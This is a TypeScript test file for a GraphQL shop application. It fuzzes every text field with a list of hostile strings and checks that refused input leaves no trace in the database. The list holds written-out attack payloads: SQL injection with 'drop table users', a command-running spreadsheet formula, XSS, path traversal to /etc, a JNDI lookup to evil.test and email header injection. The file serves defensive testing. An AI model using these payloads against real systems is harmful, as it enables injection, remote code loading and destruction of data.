import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { argumentsOf } from './arguments.ts';
import type { Client } from './client.ts';
import { startApp, type TestApp } from './harness.ts';
import { send } from './post.ts';
import { documentOf } from './schema.ts';
import type { Shop } from './seeds.ts';
import { places, type TextPlace, withText } from './text-places.ts';

/**
 * Texts that break programs × every place of the schema that takes a text. None may be a fault of ours, and whatever was
 * refused must have left nothing behind: each text carries a mark of its own, which is then looked for in every table.
 */
const hostile: Record<string, (mark: string) => string> = {
  NUL: (mark) => `${mark}\0`,
  'half a character': (mark) => `${mark}\uD800`,
  'the other half': (mark) => `\uDC00${mark}`,
  'the halves in the wrong order': (mark) => `${mark}\uDE00\uD83D`,
  'turned around': (mark) => `\u202E${mark}\u2066`,
  invisible: (mark) => `\u200B${mark}\u2060\uFEFF\u00AD`,
  'no character': (mark) => `${mark}\uFFFE\uFFFF\u{10FFFF}`,
  'private characters': (mark) => `${mark}\uE000\u{F0000}`,
  'many marks on one letter': (mark) => `${mark}a${'\u0301'.repeat(2000)}`,
  'grows when lowered': (mark) => `${mark}${'İ'.repeat(40)}`,
  'ends of lines': (mark) => `${mark}\r\nBcc: a@evil.test\r\n\r\n<b>`,
  'other ends of lines': (mark) => `${mark}\u2028\u2029\u0085\v\f`,
  'colours of a terminal': (mark) => `\u001B[31m${mark}\u001B]0;x\u0007`,
  'the end of SQL': (mark) => `${mark}'; drop table users; --`,
  'patterns of SQL': (mark) => `%_\\${mark}\\`,
  'a JSON': (mark) => `{"$ne":"${mark}"}`,
  'a formula': (mark) => `=cmd|'/c ${mark}'!A1`,
  'a template': (mark) => `{{7*7}}\${7*7}<%=7*7%>${mark}`,
  'a script': (mark) => `<script>${mark}</script><img src=x onerror=alert(1)>`,
  'a path': (mark) => `../../../../etc/${mark}`,
  'a look-up': (mark) => `\${jndi:ldap://evil.test/${mark}}`,
  'a name of the language': () => '__proto__',
  'long beyond the field': (mark) => `${mark}${'я'.repeat(7_000)}`,
  'as long as a request may be': (mark) => `${mark}${'a'.repeat(95_000)}`,
};

let app: TestApp;
let shop: Shop;
let owner: Client;
let count = 0;

beforeAll(async () => {
  app = await startApp();
  shop = await app.shop();
  owner = await app.as(shop.owner, shop.companyId);
});
afterAll(() => app.stop());
// Wrong passwords for one account are counted wherever they come from.
beforeEach(() => app.sql`delete from rate_limits`);

interface Answer {
  title: string;
  mark: string;
  status: number;
  text: string;
  refused: boolean;
  fault: string | null;
}

/** Comes from an address of its own, so that no limit on attempts answers first. */
async function tell({ root, path, title }: TextPlace, kind: string): Promise<Answer> {
  const mark = `mark${++count}x`;
  const variables = withText(argumentsOf(root.field), path, hostile[kind]?.(mark) ?? '');
  const body = { query: documentOf(root, '{ __typename }'), variables };
  const { status, text } = await send(owner, {
    body,
    headers: { 'x-forwarded-for': `10.${count >> 16}.${(count >> 8) & 255}.${count & 255}` },
  });
  const known = /NOT_FOUND|BAD_USER_INPUT/.test(text) || !text.includes('"errors"');
  return {
    title,
    mark,
    status,
    text,
    refused: text.includes('"errors"') || text.includes('"Problem"') || root.operation === 'Query',
    fault: status < 500 && known ? null : `${title}, ${kind}: ${status} ${text.slice(0, 300)}`,
  };
}

/** The whole database as text, journals and queue included. */
async function everything(): Promise<string> {
  const tables = await app.sql<{ name: string }[]>`select quote_ident(schemaname) || '.' || quote_ident(tablename) as name from pg_tables
    where schemaname in ('public', 'pgboss')`;
  const texts: string[] = [];
  for (const { name } of tables) {
    const [row] = await app.sql.unsafe<{ text: string }[]>(`select coalesce(string_agg(t::text, ' '), '') as text from ${name} t`);
    texts.push(row?.text ?? '');
  }
  return texts.join('\n');
}

it('knows the places', () => {
  expect(places.length).toBeGreaterThan(50);
});

it.each(Object.keys(hostile))(
  'is no fault anywhere, and nothing is left of it where it was refused: %s',
  async (kind) => {
    const answers: Answer[] = [];
    for (const place of places) answers.push(await tell(place, kind));
    expect(answers.flatMap(({ fault }) => fault ?? [])).toEqual([]);
    const kept = await everything();
    expect(answers.filter(({ refused, mark }) => refused && kept.includes(mark)).map(({ title }) => title)).toEqual([]);
  },
  120_000,
);

it.each(['NUL', 'half a character', 'the other half', 'the halves in the wrong order'])(
  'is refused before anything looks at it: %s',
  async (kind) => {
    const answers: Answer[] = [];
    for (const place of places) answers.push(await tell(place, kind));
    expect(answers.filter(({ status, text }) => status !== 400 || !text.includes('BAD_USER_INPUT'))).toEqual([]);
  },
  120_000,
);

it('is refused with 413 where it is a megabyte', async () => {
  for (const place of places) {
    const body = {
      query: documentOf(place.root, '{ __typename }'),
      variables: withText(argumentsOf(place.root.field), place.path, 'a'.repeat(1_000_000)),
    };
    expect((await send(owner, { body })).status, place.title).toBe(413);
  }
}, 120_000);

it('was stored nowhere that turns text around, ends its line or says what cannot be seen', async () => {
  const unfit = '[\u0001-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2028\u2029\u2066-\u2069]';
  const tables = await app.sql<{ name: string }[]>`select tablename as name from pg_tables where schemaname = 'public'`;
  for (const { name } of tables) {
    expect(await app.sql`select t::text from ${app.sql(name)} t where t::text ~ ${unfit}`, name).toEqual([]);
  }
});
